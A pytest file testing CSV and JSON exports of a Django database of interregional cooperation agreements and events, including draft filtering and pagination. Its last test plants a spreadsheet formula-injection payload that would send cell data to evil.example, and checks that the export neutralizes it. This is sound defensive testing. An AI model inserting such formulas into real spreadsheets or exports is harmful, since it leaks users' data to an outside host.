import csv
import io
import json

import pytest

from cooperation.models import Agreement, PublicationState

from .factories import AgreementFactory, AgreementPartyFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

AGREEMENT = "Соглашение о сотрудничестве между Промышленным кластером Татарстана и СПК «Атырау»"


def _body(response):
    return b"".join(response.streaming_content).decode("utf-8")


def test_a_regions_agreements_download_as_csv(client, article):
    response = client.get("/agreements/", {"region": "atyrauskaya-oblast", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_body(response).lstrip("\ufeff"))))
    assert [row["title"] for row in rows] == [AGREEMENT]
    row = rows[0]
    assert row["signed"] == "2025-02-20"
    assert row["url"].endswith(Agreement.objects.get().get_absolute_url())
    assert "Промышленный кластер Татарстана" in row["parties"]
    assert row["sources"]  # the citation goes with the data
    # The article has no address of its own: its page here, in full, stands for it.
    assert row["sources"].startswith("http://testserver/sources/")


def test_json_takes_the_same_filters(client, article):
    response = client.get(
        "/events/", {"region": "tatarstan", "partner": "atyrauskaya-oblast", "format": "json"}
    )
    rows = json.loads(_body(response))
    assert len(rows) == 3
    assert all("atyrauskaya-oblast" in row["regions_involved"] for row in rows)
    assert {"url", "title", "start", "participants", "sources"} <= set(rows[0])


@pytest.mark.parametrize(
    "key", ["region", "organization", "person", "delegation", "event", "agreement", "source"]
)
def test_every_list_exports_as_csv_and_json(client, article, key):
    path = {"person": "/people/", "region": "/regions/"}.get(key, f"/{key}s/")
    rows = json.loads(_body(client.get(path, {"format": "json"})))
    table = list(
        csv.DictReader(io.StringIO(_body(client.get(path, {"format": "csv"})).lstrip("\ufeff")))
    )
    assert len(rows) == len(table) > 0
    assert [row["slug"] for row in rows] == [row["slug"] for row in table]


def test_exports_leave_out_drafts_and_draft_parties(client, article):
    draft = AgreementFactory(title="Черновик соглашения", state=PublicationState.DRAFT)
    hidden_party = OrganizationFactory(name="Скрытая организация", state=PublicationState.DRAFT)
    AgreementPartyFactory(
        agreement=Agreement.objects.get(title=AGREEMENT), organization=hidden_party
    )
    body = _body(client.get("/agreements/", {"format": "csv"}))
    assert draft.title not in body
    assert "Скрытая организация" not in body


def test_an_export_is_not_paginated(client):
    AgreementFactory.create_batch(45)
    rows = json.loads(_body(client.get("/agreements/", {"format": "json", "page": "2"})))
    assert len(rows) == 45


def test_a_csv_cell_never_runs_as_a_spreadsheet_formula(client):
    OrganizationFactory(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    rows = list(
        csv.DictReader(
            io.StringIO(_body(client.get("/organizations/", {"format": "csv"})).lstrip("\ufeff"))
        )
    )
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
